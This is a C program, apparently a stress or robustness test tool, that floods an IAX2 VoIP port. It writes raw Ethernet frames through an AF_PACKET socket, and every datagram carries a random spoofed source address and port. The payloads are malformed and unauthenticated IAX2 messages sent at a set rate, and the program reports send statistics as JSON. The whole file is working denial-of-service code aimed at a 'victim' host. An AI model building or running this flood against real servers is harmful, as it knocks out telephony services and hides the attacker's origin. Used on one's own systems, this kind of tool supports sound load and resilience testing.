/* SPDX-License-Identifier: MIT */

/*
 * Floods an IAX2 port with what strangers send, each datagram from another
 * address and port: straight into a network interface, behind the back of
 * routing, so that no address needs to exist.
 *
 *	flood INTERFACE MAC ADDRESS PORT RATE SECONDS
 *
 * MAC and ADDRESS (IPv4) are the victim's, RATE is in datagrams a second.
 * Prints one JSON object: sent, octets (of UDP payload), seconds, rate.
 */

#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define BATCH 64U
#define HEADERS (sizeof(struct ether_header) + sizeof(struct iphdr) + 8U)
#define PAYLOAD_MAX 200U
#define TICK_NS 1000000L

struct payload {
	size_t len;
	uint8_t octets[PAYLOAD_MAX];
};

#define FULL(sub) 0x80, 0x07, 0, 0, 0, 0, 0, 3, 0, 0, 6, (sub)
#define NAMES 0x0b, 2, 0, 2, 1, 4, '2', '0', '0', '1', 2, 4, '2', '9', '9', '9'
#define FORMATS 9, 4, 0, 0, 0, 4, 8, 4, 0, 0, 0, 4

static struct payload kinds[] = {
	/* NEW: an empty token, a bad one, none, and a ticket of nobody's. */
	{ 42, { FULL(1), NAMES, FORMATS, 0x36, 0 } },
	{ 50,
	  { FULL(1), NAMES, FORMATS, 0x36, 8, 'A', 'B', 'C', 'D', 'E', 'F', 'G',
	    'H' } },
	{ 40, { FULL(1), NAMES, FORMATS } },
	{ 50, { FULL(1), NAMES, FORMATS, 0xeb, 8, 1, 2, 3, 4, 5, 6, 7, 8 } },
	{ 12, { FULL(0x1e) } },                                  /* POKE */
	{ 12, { 0x80, 7, 0x12, 0x34, 0, 0, 0, 3, 0, 0, 6, 2 } }, /* PING */
	{ 164, { 0x01, 0x23, 0x01, 0x40 } },                     /* voice */
	{ 60, { 0xff } }, /* what follows is made up at the start */
	{ 3, { 0x80, 1 } },
};
#define KINDS (sizeof(kinds) / sizeof(kinds[0]))

static uint64_t rng = 4569;

static uint64_t rnd(void)
{
	rng ^= rng << 13;
	rng ^= rng >> 7;
	rng ^= rng << 17;
	return rng;
}

struct flood {
	int fd;
	struct sockaddr_ll to;
	uint8_t frame[BATCH][HEADERS + PAYLOAD_MAX];
	struct iovec iov[BATCH];
	struct mmsghdr msg[BATCH];
	uint64_t sent;
	uint64_t octets;
};

static uint16_t ip_sum(const struct iphdr *ip)
{
	uint16_t word[sizeof(*ip) / 2];
	uint32_t sum = 0;

	memcpy(word, ip, sizeof(*ip));
	for (size_t i = 0; i < sizeof(word) / sizeof(word[0]); i++)
		sum += word[i];
	sum = (sum & 0xffff) + (sum >> 16);
	return (uint16_t) ~(sum + (sum >> 16));
}

static void write_frame(struct flood *f, size_t i, const struct payload *p,
			uint32_t dst, uint16_t port)
{
	const uint64_t r = rnd();
	struct ether_header eth = { .ether_type = htons(ETHERTYPE_IP) };
	struct iphdr ip = {
		.version = 4,
		.ihl = 5,
		.tot_len = htons((uint16_t)(HEADERS - sizeof(eth) + p->len)),
		.ttl = 60,
		.protocol = IPPROTO_UDP,
		.saddr = htonl(0x0a000000U | (uint32_t)(r & 0xffffff)),
		.daddr = dst,
	};
	/* A checksum of 0: none (RFC 768). */
	const uint16_t udp[4] = { htons((uint16_t)(1024 + (r >> 24) % 64000)),
				  htons(port), htons((uint16_t)(8 + p->len)),
				  0 };
	uint8_t *at = f->frame[i];

	memcpy(eth.ether_dhost, f->to.sll_addr, ETH_ALEN);
	ip.check = ip_sum(&ip);
	memcpy(at, &eth, sizeof(eth));
	memcpy(at + sizeof(eth), &ip, sizeof(ip));
	memcpy(at + sizeof(eth) + sizeof(ip), udp, sizeof(udp));
	memcpy(at + HEADERS, p->octets, p->len);
	f->iov[i] = (struct iovec){ at, HEADERS + p->len };
	f->octets += p->len;
}

/* 0 or -errno; what the interface does not take now is not sent. */
static int send_some(struct flood *f, size_t n, uint32_t dst, uint16_t port)
{
	while (n > 0) {
		const unsigned batch = n < BATCH ? (unsigned)n : BATCH;
		unsigned done = 0;

		for (size_t i = 0; i < batch; i++)
			write_frame(f, i, &kinds[rnd() % KINDS], dst, port);
		while (done < batch) {
			const int got =
				sendmmsg(f->fd, f->msg + done, batch - done, 0);

			if (got < 0 && errno != ENOBUFS && errno != EINTR)
				return -errno;
			done += got > 0 ? (unsigned)got : 0;
		}
		f->sent += batch;
		n -= batch;
	}
	return 0;
}

static double since(const struct timespec *began)
{
	struct timespec now;

	(void)clock_gettime(CLOCK_MONOTONIC, &now);
	return (double)(now.tv_sec - began->tv_sec) +
	       (double)(now.tv_nsec - began->tv_nsec) / 1e9;
}

/* Evenly, a little each millisecond; behind time, as fast as it goes. */
static int run(struct flood *f, uint32_t dst, uint16_t port, double rate,
	       double seconds)
{
	const struct timespec pause = { 0, TICK_NS };
	struct timespec began;
	double passed = 0;
	int err = 0;

	(void)clock_gettime(CLOCK_MONOTONIC, &began);
	while (err == 0 && passed < seconds) {
		const double due = rate * passed - (double)f->sent;

		if (due >= 1)
			err = send_some(f, due < 1000 ? (size_t)due : 1000, dst,
					port);
		if (due < 1000)
			(void)nanosleep(&pause, NULL);
		passed = since(&began);
	}
	printf("{\"sent\": %llu, \"octets\": %llu, \"seconds\": %.3f, "
	       "\"rate\": %.0f}\n",
	       (unsigned long long)f->sent, (unsigned long long)f->octets,
	       passed, (double)f->sent / passed);
	return err;
}

static int start(struct flood *f, const char *interface, const char *mac)
{
	unsigned m[6];
	const int bypass = 1;

	f->fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0);
	if (f->fd < 0)
		return -errno;
	(void)setsockopt(f->fd, SOL_PACKET, PACKET_QDISC_BYPASS, &bypass,
			 sizeof(bypass));
	f->to = (struct sockaddr_ll){
		.sll_family = AF_PACKET,
		.sll_protocol = htons(ETH_P_IP),
		.sll_ifindex = (int)if_nametoindex(interface),
		.sll_halen = ETH_ALEN,
	};
	if (f->to.sll_ifindex == 0 ||
	    sscanf(mac, "%x:%x:%x:%x:%x:%x", &m[0], &m[1], &m[2], &m[3], &m[4],
		   &m[5]) != 6)
		return -EINVAL;
	for (size_t i = 0; i < 6; i++)
		f->to.sll_addr[i] = (uint8_t)m[i];
	for (size_t i = 0; i < BATCH; i++)
		f->msg[i].msg_hdr = (struct msghdr){
			.msg_name = &f->to,
			.msg_namelen = sizeof(f->to),
			.msg_iov = &f->iov[i],
			.msg_iovlen = 1,
		};
	for (size_t i = 1; i < kinds[7].len; i++)
		kinds[7].octets[i] = (uint8_t)(rnd() >> 32);
	return 0;
}

int main(int argc, char *argv[])
{
	static struct flood f;
	struct in_addr dst;
	int err;

	if (argc != 7 || inet_pton(AF_INET, argv[3], &dst) != 1) {
		(void)fprintf(stderr, "usage: flood INTERFACE MAC ADDRESS PORT "
				      "RATE SECONDS\n");
		return 2;
	}
	err = start(&f, argv[1], argv[2]);
	if (err == 0)
		err = run(&f, dst.s_addr, (uint16_t)atoi(argv[4]),
			  strtod(argv[5], NULL), strtod(argv[6], NULL));
	if (err != 0)
		(void)fprintf(stderr, "flood: %s\n", strerror(-err));
	if (f.fd >= 0)
		(void)close(f.fd);
	return err != 0;
}
